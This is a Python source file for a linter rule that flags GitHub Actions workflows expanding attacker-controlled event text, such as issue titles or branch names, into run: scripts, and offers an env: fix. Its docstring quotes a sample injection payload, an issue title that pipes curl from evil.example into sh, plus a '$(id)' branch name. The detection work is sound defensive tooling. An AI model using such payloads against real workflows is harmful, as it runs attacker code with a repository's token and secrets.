"""PL502 script-injection."""

from __future__ import annotations

from pipelint.diagnostics import Related, Severity
from pipelint.expression_flow import (
    CHOSEN,
    COMPUTED,
    NUMBER,
    STAR,
    EnvMove,
    EnvSource,
    Sink,
    display_path,
    env_fix,
    env_source,
    flowing_paths,
    parse_embedded,
    reads_value,
    script_sinks,
    step_label,
    untrusted_flow,
    variable_reference,
)
from pipelint.rule import Rule


# --------------------------------------------------------------------------- the rule

#: Who chooses the text, by the event object it comes from.
_AUTHORS = (
    ("github.head_ref", "a pull request author"),
    ("github.event.pull_request", "a pull request author"),
    ("github.event.issue", "an issue author"),
    ("github.event.comment", "a commenter"),
    ("github.event.review_comment", "a reviewer"),
    ("github.event.review", "a reviewer"),
    ("github.event.discussion", "a discussion author"),
    ("github.event.pages", "a wiki editor"),
    ("github.event.commits", "a commit author"),
    ("github.event.head_commit", "a commit author"),
    ("github.event.workflow_run", "the author of the triggering branch"),
)

_MAX_MESSAGE = 199


def _author(path: str) -> str:
    for prefix, who in _AUTHORS:
        if path == prefix or path.startswith(prefix + "."):
            return who
    return "an outside contributor"


def _variable_name(path: str) -> str:
    parts = [p for p in path.split(".") if p not in ("github", "event", STAR, NUMBER, COMPUTED, CHOSEN)]
    if not parts:
        return "EVENT_JSON"
    words = parts[-2:] if len(parts) >= 2 else parts
    if words[0] == "pull_request":
        words[0] = "pr"
    return "_".join(words).upper().replace("-", "_")


class ScriptInjection(Rule):
    """## What it does
    Reports a `${{ }}` expression that expands attacker-controlled text straight into
    code GitHub runs: the `run:` script of a step (of a workflow or a composite action) or
    the `script:` of `actions/github-script`. Attacker-controlled means text that anyone
    who opens an issue, pull request, review, comment or discussion, or who authors a
    commit or names a branch, chooses: `github.event.issue.title` and `.body`,
    `github.event.pull_request.title`, `.body`, `.head.ref`, `.head.label`,
    `github.head_ref`, `github.event.comment.body`, `github.event.review.body`,
    `github.event.commits.*.message` and `.author.*`, `github.event.head_commit.*`,
    `github.event.workflow_run.head_branch`, `.display_title`, `.head_commit.*`,
    `github.event.discussion.title`/`.body`, `github.event.pages.*.page_name`, and objects
    holding them once serialised (`toJSON(github.event)`; `${{ github.event }}` alone
    expands to the word `Object`). It follows the value: a comparison or
    `contains()` of such a context yields only true or false and is not reported, while
    `format()`, `join()`, `toJSON()` and `a || b` pass it through. An `env.NAME` whose
    `env:` value is set from such a context and then expanded with `${{ env.NAME }}` is
    reported too.

    ## Why is this bad?
    GitHub substitutes `${{ }}` into the script text before the shell (or Node.js) reads
    it, so an issue titled `"; curl https://evil.example/x | sh; #` or a branch named
    `$(id)` becomes part of the program and runs with the job's token and secrets. With
    `pull_request_target`, `issue_comment` or `workflow_run` the job has write access and
    secrets even when the text comes from a fork.

    Passing the value through `env:` is the safe pattern: the shell then reads a variable
    and never parses its content as code, so `env:` values are not reported.

    ## Example
    ```yaml
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: |
              echo "New issue: ${{ github.event.issue.title }}"
    ```

    ## Use instead
    ```yaml
    on:
      issues:
        types: [opened]
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - env:
              ISSUE_TITLE: ${{ github.event.issue.title }}
            run: |
              echo "New issue: $ISSUE_TITLE"
    ```
    """

    code = "PL502"
    name = "script-injection"
    severity = Severity.ERROR
    platforms = ("github",)
    tags = ("security", "injection")
    precision = "high"
    fixable = True

    def check(self, ctx):
        parsed = ctx.file
        file = parsed.file
        seen: set[tuple[int, int]] = set()  # YAML aliases share one node between steps
        for sink in script_sinks(parsed):
            text = sink.node.value
            if not isinstance(text, str):
                continue
            found: list[tuple[EnvMove, tuple]] = []
            for emb, expr in parse_embedded(text):
                if (sink.node.start_index, emb.start) in seen:
                    continue
                direct: list[str] = []
                via_env: list[EnvSource] = []
                for flow in flowing_paths(expr):
                    if untrusted_flow(flow):
                        if flow.path not in direct:
                            direct.append(flow.path)
                        continue
                    source = env_source(sink.step, flow.path, untrusted_flow)
                    if source is not None:
                        via_env.append(source)
                if not direct and not via_env:
                    continue
                seen.add((sink.node.start_index, emb.start))
                span = file.scalar_span(sink.node, emb.start, emb.end)
                related = ()
                if direct:
                    message = self._message(sink, direct)
                else:
                    source = via_env[0]
                    message = self._env_message(sink, source)
                    where = f"env.{source.name} is set from {display_path(source.paths[0])} here"
                    related = (Related(file.node_span(source.value), where),)
                if direct:
                    move = EnvMove(emb.start, emb.end, _variable_name(direct[0]))
                elif " ".join(emb.inner.split()).lower() == f"env.{via_env[0].name.lower()}":
                    move = EnvMove(emb.start, emb.end, via_env[0].name, via_env[0].name)
                else:
                    move = EnvMove(emb.start, emb.end, _variable_name(via_env[0].paths[0]))
                found.append((move, (span, message, related)))
            if not found:
                continue
            # One fix for all the findings of a script (they share an env: insertion point).
            fix, covered = env_fix(sink, [move for move, _d in found], languages=("shell", "pwsh", "javascript", "python"))
            for move, (span, message, related) in found:
                yield self.diagnostic(
                    span,
                    message,
                    related=related,
                    logical_path=sink.logical_path,
                    fix=fix if move in covered else None,
                )

    def _message(self, sink: Sink, paths: list[str]) -> str:
        raw = paths[0]
        first = display_path(raw)
        shown = first if len(paths) == 1 else f"{first} (and {len(paths) - 1} more)"
        who = _author(first)
        what = f"which {who} sets" if reads_value(raw) else f"which holds text {who} sets"
        fix = f"pass it via env: and use {variable_reference(_variable_name(raw), sink.language)}"
        message = f"{sink.where} expands {shown}, {what}, into its script, so they can inject code; {fix}."
        if len(message) > _MAX_MESSAGE:
            message = f"{sink.where} expands {shown}, set by {who}, into its script: code injection; {fix}."
        if len(message) > _MAX_MESSAGE:
            message = f"{step_label(sink.step)} expands {first} into its script: code injection; {fix}."
        return message[:1].upper() + message[1:]  # it starts with a step label

    def _env_message(self, sink: Sink, source: EnvSource) -> str:
        use = variable_reference(source.name, sink.language)
        expr = f"${{{{ env.{source.name} }}}}"
        origin = display_path(source.paths[0])
        message = (
            f"{sink.where} expands {expr}, set from {origin}, into its script, "
            f"which undoes the env: indirection; use {use} instead."
        )
        if len(message) > _MAX_MESSAGE:
            label = step_label(sink.step)
            message = f"{label} expands {expr} (from {origin}) into its script; use {use} instead."
        return message[:1].upper() + message[1:]  # it starts with a step label
